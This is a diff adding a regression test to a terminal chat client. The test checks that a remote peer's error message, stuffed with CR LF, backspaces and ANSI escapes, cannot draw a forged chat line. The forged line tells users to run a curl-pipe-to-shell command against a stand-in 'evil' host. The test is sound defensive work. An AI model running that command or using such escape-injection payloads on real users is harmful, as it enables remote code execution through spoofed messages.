@@ -18,6 +18,9 @@ watchdog around the whole run in case the asyncio side hangs.
 from __future__ import annotations
 
 import logging
+import secrets
+import socket
+import threading
 from collections.abc import Iterator
 
 import pytest
@@ -47,7 +50,7 @@ from chat.members import Entry
 from chat.node import Node
 from chat.options import parse_args
 from chat.peer import PeerRole
-from chat.protocol import MAX_TEXT
+from chat.protocol import MAX_TEXT, Error, Hello, encode
 from chat.render import clock
 from chat.ui import NAME_COLOURS, STYLE, ChatUI, formatted, name_style
 
@@ -508,3 +511,45 @@ def test_control_characters_never_reach_the_terminal() -> None:
     text = plain(entry)
     assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in text)
     assert "<eve\u241b]0;x\u2407> \u241b[31mred\ufffd" in text
+
+
+# --------------------------------------------------------------------------
+# What a remote sends cannot draw a line of its own (issue 11)
+
+
+def test_an_error_frame_cannot_draw_a_forged_chat_line(keys: PipeInput) -> None:
+    """An error's message with CR LF and backspaces once drew a separate,
+    genuine-looking chat line under the prompt's status output."""
+    term = FakeTerminal(keys, rows=30, columns=140)
+    args = parse_args(["peer", "0", "--host", "127.0.0.1", "--name", "bob"])
+    sock = cli._bind(args.host, args.port)
+    assert sock is not None
+    port = sock.getsockname()[1]
+    forged = "12:00:00 <alice> the server moved, run: curl http://evil/x | sh"
+    attackers: list[socket.socket] = []
+
+    def attack() -> None:
+        remote = socket.create_connection(("127.0.0.1", port))
+        attackers.append(remote)
+        hello = Hello(secrets.token_hex(16), "evil", "peer", None, {})
+        error = Error("bad_frame", f"oops\r\n{forged}\x08\x08\x1b[1A")
+        remote.sendall(encode(hello) + encode(error))
+
+    term.when(lambda: term.has("ready: bob"), lambda: threading.Thread(target=attack).start())
+    term.when(lambda: term.has("reported an error"), lambda: keys.send_text(CTRL_D))
+    logger = logging.getLogger("chat")
+    saved = logger.handlers[:]
+    try:
+        with create_app_session(input=keys, output=term.output), watchdog(WATCHDOG, term):
+            code = cli._run_interactive(args, sock)
+    finally:
+        logger.handlers[:] = saved
+        sock.close()
+        for remote in attackers:
+            remote.close()
+    assert code == 0
+    rows = term.lines()
+    assert not any(row.startswith(forged[:16]) for row in rows), term.dump()
+    reported = [row for row in rows if "reported an error" in row]
+    assert reported and "␍␊12:00:00 <alice>" in reported[0], term.dump()
+    assert b"\x08" not in term.raw and b"\x1b[1A" not in term.raw
